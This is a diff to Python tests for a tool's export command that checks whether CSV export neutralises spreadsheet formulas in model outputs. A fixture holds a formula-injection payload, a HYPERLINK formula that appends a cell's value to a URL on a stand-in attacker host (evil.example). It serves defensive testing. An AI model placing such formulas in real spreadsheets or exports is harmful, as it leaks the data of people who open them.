@@ -12,11 +12,9 @@ import httpx
 import polars as pl
 import pyarrow as pa
 import pytest
-from click.testing import CliRunner
 
-from runner.cli import main
 from runner.export._writers import defuse_csv_table, defuse_csv_text
-from tests.export_helpers import make_run
+from tests.export_helpers import export_cli, make_run
 
 ANSWERS = [
     '=HYPERLINK("http://evil.example/?"&A1, "click")',
@@ -51,7 +49,7 @@ def test_a_csv_export_of_formula_like_outputs_reads_back_with_a_leading_quote(
     tmp_path: Path, run_dir: Path
 ) -> None:
     target = tmp_path / "x.csv"
-    result = CliRunner().invoke(main, ["export", str(run_dir), "--to", str(target)])
+    result = export_cli(run_dir, "--to", target)
     assert result.exit_code == 0, result.output
     outputs = read_cells(target, "output")
     assert outputs[0] == "'" + ANSWERS[0] and outputs[0].startswith("'=HYPERLINK(")
@@ -63,7 +61,7 @@ def test_a_csv_export_of_formula_like_outputs_reads_back_with_a_leading_quote(
 
 def test_csv_raw_writes_the_cells_as_they_are(tmp_path: Path, run_dir: Path) -> None:
     target = tmp_path / "raw.csv"
-    result = CliRunner().invoke(main, ["export", str(run_dir), "--to", str(target), "--csv-raw"])
+    result = export_cli(run_dir, "--to", target, "--csv-raw")
     assert result.exit_code == 0, result.output
     assert read_cells(target, "output") == ANSWERS
 
@@ -71,7 +69,7 @@ def test_csv_raw_writes_the_cells_as_they_are(tmp_path: Path, run_dir: Path) -> 
 @pytest.mark.parametrize("fmt", ["parquet", "jsonl"])
 def test_parquet_and_jsonl_keep_the_text_unchanged(tmp_path: Path, run_dir: Path, fmt: str) -> None:
     target = tmp_path / f"x.{fmt}"
-    result = CliRunner().invoke(main, ["export", str(run_dir), "--to", str(target)])
+    result = export_cli(run_dir, "--to", target)
     assert result.exit_code == 0, result.output
     if fmt == "parquet":
         outputs = pl.read_parquet(target)["output"].to_list()
